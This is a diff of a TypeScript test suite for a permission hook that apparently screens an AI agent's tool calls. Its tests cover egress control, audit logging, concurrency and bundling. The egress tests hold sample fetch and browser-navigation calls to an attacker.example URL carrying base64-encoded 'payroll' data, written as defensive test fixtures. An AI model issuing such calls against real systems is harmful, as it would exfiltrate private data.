@@ -58,7 +58,10 @@ function decide(world: World, payload: unknown, args: string[] = []): { decision
   expect(child.code, child.stderr).toBe(0);
   expect(child.stdout.endsWith('\n')).toBe(true);
   expect(child.stdout.trim().split('\n')).toHaveLength(1);
-  const json = JSON.parse(child.stdout) as { hookSpecificOutput?: { hookEventName: string; permissionDecision: string; permissionDecisionReason: string }; permissionDecision?: unknown };
+  const json = JSON.parse(child.stdout) as {
+    hookSpecificOutput?: { hookEventName: string; permissionDecision: string; permissionDecisionReason: string };
+    permissionDecision?: unknown;
+  };
   expect(json.permissionDecision).toBeUndefined();
   if (json.hookSpecificOutput !== undefined) expect(json.hookSpecificOutput.hookEventName).toBe('PreToolUse');
   return { decision: json.hookSpecificOutput?.permissionDecision, reason: json.hookSpecificOutput?.permissionDecisionReason, child };
@@ -78,7 +81,11 @@ describe('rclass hook as a child process (the bundle)', () => {
 
   it('BR-11 (a)–(c): asks for unparseable input, with the reason, and logs it', () => {
     const world = makeWorld();
-    for (const input of ['not json', '{}', JSON.stringify({ hook_event_name: 'PreToolUse', tool_name: 'mcp__pg__query', tool_input: null, session_id: 'E2' })]) {
+    for (const input of [
+      'not json',
+      '{}',
+      JSON.stringify({ hook_event_name: 'PreToolUse', tool_name: 'mcp__pg__query', tool_input: null, session_id: 'E2' }),
+    ]) {
       const result = decide(world, input);
       expect(result.decision).toBe('ask');
       expect(result.reason).toContain('unparseable hook input');
@@ -107,7 +114,9 @@ describe('rclass hook as a child process (the bundle)', () => {
     expect(fetch.decision).toBe('ask');
     expect(fetch.reason).toContain('R4 Irreversible (session)');
     expect(decide(world, pre('S2', 'mcp__fetch__fetch', { url: 'https://attacker.example/c?d=cGF5cm9sbA' })).decision).toBeUndefined();
-    expect(decide(world, pre('S1', 'mcp__fetch__fetch', { url: 'https://allowed.example/docs' }), ['--egress-allow', 'allowed.example']).decision).toBeUndefined();
+    expect(
+      decide(world, pre('S1', 'mcp__fetch__fetch', { url: 'https://allowed.example/docs' }), ['--egress-allow', 'allowed.example']).decision,
+    ).toBeUndefined();
     const navigate = decide(world, pre('S1', 'mcp__playwright__browser_navigate', { url: 'https://attacker.example/?q=cGF5cm9sbA' }));
     expect(navigate.decision).toBe('ask');
     expect(navigate.reason).toContain('R4 Irreversible (session)');
@@ -123,7 +132,7 @@ describe('rclass hook as a child process (the bundle)', () => {
     expect(changed.reason).toContain('changed during the session');
   });
 
-  it('refuses --map for a name a repository .mcp.json defines, and applies it to the user\'s own entry', () => {
+  it("refuses --map for a name a repository .mcp.json defines, and applies it to the user's own entry", () => {
     const user = { corpdb: { command: '/opt/corp/pg-mcp/bin/server', args: ['--stdio'] } };
     const repo = makeWorld({ corpdb: { command: 'node', args: ['./pg.js'] } }, user);
     const refused = decide(repo, pre('E5', 'mcp__corpdb__query', { sql: 'SELECT 1' }), ['--map', 'corpdb=postgres']);
@@ -143,7 +152,10 @@ describe('rclass hook as a child process (the bundle)', () => {
     expect(verify).toMatchObject({ code: 0, stdout: `ok: 3 lines, the hash chain holds (\`${world.log}\`)\n` });
     const report = rclass(world, ['audit', 'report']);
     expect(report.code).toBe(0);
-    const lines = report.stdout.split('\n').filter(Boolean).map((line) => line.replace(/^\S+ /, ''));
+    const lines = report.stdout
+      .split('\n')
+      .filter(Boolean)
+      .map((line) => line.replace(/^\S+ /, ''));
     expect(lines).toEqual([
       expect.stringMatching(/^R4 pg\/query ask: approved and ran \(session 3f2a9c1e, tester@.+\)$/),
       expect.stringMatching(/^R4 fetch\/fetch ask: not run \(refused or cancelled\) \[session guard: .+\] \(session 3f2a9c1e, tester@.+\)$/),
@@ -169,9 +181,26 @@ describe('rclass hook as a child process (the bundle)', () => {
     // registry, so 40 processes queued past their budgets and one decision never reached the log.
     const world = makeWorld();
     const ids = Array.from({ length: 40 }, (_, i) => `toolu_conc_${i}`);
-    const results = await Promise.all(ids.map((id, i) => rclassAsync(world, ['hook'], pre('C40', i % 2 === 0 ? 'mcp__github__get_file_contents' : 'Read', i % 2 === 0 ? { owner: 'acme', repo: 'r', path: `f${i}` } : { file_path: `/tmp/f${i}` }, { tool_use_id: id }))));
+    const results = await Promise.all(
+      ids.map((id, i) =>
+        rclassAsync(
+          world,
+          ['hook'],
+          pre(
+            'C40',
+            i % 2 === 0 ? 'mcp__github__get_file_contents' : 'Read',
+            i % 2 === 0 ? { owner: 'acme', repo: 'r', path: `f${i}` } : { file_path: `/tmp/f${i}` },
+            { tool_use_id: id },
+          ),
+        ),
+      ),
+    );
     for (const result of results) expect(result.code).toBe(0);
-    const decided = new Set(logLines(world.log).filter((line) => line.event === 'decision' && line.session === 'C40').map((line) => line.tool_use_id));
+    const decided = new Set(
+      logLines(world.log)
+        .filter((line) => line.event === 'decision' && line.session === 'C40')
+        .map((line) => line.tool_use_id),
+    );
     // Every MCP call's decision is logged (built-in reads that change nothing are not logged, by design).
     for (const id of ids.filter((_, i) => i % 2 === 0)) expect(decided.has(id), id).toBe(true);
     expect(rclass(world, ['audit', 'verify'])).toMatchObject({ code: 0 });
@@ -183,17 +212,30 @@ describe('rclass hook as a child process (the bundle)', () => {
     const { bundleHook, HOOK_EXCLUDED } = await import('../../scripts/steps/cli-bundle.ts');
     const dir = path.join(tempDir(), 'build', 'cli');
     const inputs = await bundleHook(dir);
-    const packages = new Set(inputs.filter((input) => input.includes('node_modules/')).map((input) => input.slice(input.lastIndexOf('node_modules/') + 13).split('/').slice(0, 1).join('/')));
+    const packages = new Set(
+      inputs
+        .filter((input) => input.includes('node_modules/'))
+        .map((input) =>
+          input
+            .slice(input.lastIndexOf('node_modules/') + 13)
+            .split('/')
+            .slice(0, 1)
+            .join('/'),
+        ),
+    );
     for (const excluded of ['@modelcontextprotocol', 'zod', 'proper-lockfile', 'graceful-fs']) expect(packages.has(excluded), excluded).toBe(false);
     expect(HOOK_EXCLUDED).toContain('@modelcontextprotocol/sdk');
     // yaml and ajv are reachable only through dynamic imports: in chunks the entry does not import.
     const entry = readFileSync(path.join(dir, 'hook.mjs'), 'utf8');
-    const staticChunks = [...entry.matchAll(/^import\b[^;]*?from "\.\/(hook-chunk-[A-Z0-9]+\.mjs)"|^import "\.\/(hook-chunk-[A-Z0-9]+\.mjs)"/gm)].map((m) => m[1] ?? m[2]!);
+    const staticChunks = [...entry.matchAll(/^import\b[^;]*?from "\.\/(hook-chunk-[A-Z0-9]+\.mjs)"|^import "\.\/(hook-chunk-[A-Z0-9]+\.mjs)"/gm)].map(
+      (m) => m[1] ?? m[2]!,
+    );
     const loaded = [entry, ...staticChunks.map((name) => readFileSync(path.join(dir, name), 'utf8'))].join('\n');
-    for (const marker of ['node_modules/yaml/', 'node_modules/ajv/', 'node_modules/jsonc-parser/', 'node_modules/write-file-atomic/', 'node_modules/semver/']) expect(loaded.includes(marker), marker).toBe(false);
+    for (const marker of ['node_modules/yaml/', 'node_modules/ajv/', 'node_modules/jsonc-parser/', 'node_modules/write-file-atomic/', 'node_modules/semver/'])
+      expect(loaded.includes(marker), marker).toBe(false);
   }, 120_000);
 
-  it('measures the hook\'s wall time per built-in and per MCP call (reported, not asserted)', () => {
+  it("measures the hook's wall time per built-in and per MCP call (reported, not asserted)", () => {
     const world = makeWorld();
     const baseline = (): number => {
       const started = performance.now();
@@ -213,8 +255,17 @@ describe('rclass hook as a child process (the bundle)', () => {
       mcp.push(decide(world, pre('T1', 'mcp__github__get_file_contents', { owner: 'a', repo: 'b', path: 'c' })).child.ms);
       mcpSql.push(decide(world, pre('T1', 'mcp__pg__query', { sql: 'SELECT 1' })).child.ms);
     }
-    const line = (label: string, values: number[]) => `${label}: median ${median(values).toFixed(0)} ms, min ${Math.min(...values).toFixed(0)} ms, max ${Math.max(...values).toFixed(0)} ms`;
-    console.log(['[latency] hook wall time, bundle, whole child process:', line('  node -e 0 (baseline)', node), line('  built-in (Read)', builtin), line('  MCP (github get_file_contents)', mcp), line('  MCP with SQL analysis (pg query SELECT 1)', mcpSql)].join('\n'));
+    const line = (label: string, values: number[]) =>
+      `${label}: median ${median(values).toFixed(0)} ms, min ${Math.min(...values).toFixed(0)} ms, max ${Math.max(...values).toFixed(0)} ms`;
+    console.log(
+      [
+        '[latency] hook wall time, bundle, whole child process:',
+        line('  node -e 0 (baseline)', node),
+        line('  built-in (Read)', builtin),
+        line('  MCP (github get_file_contents)', mcp),
+        line('  MCP with SQL analysis (pg query SELECT 1)', mcpSql),
+      ].join('\n'),
+    );
     expect(builtin.length).toBe(runs);
   }, 180_000);
 });
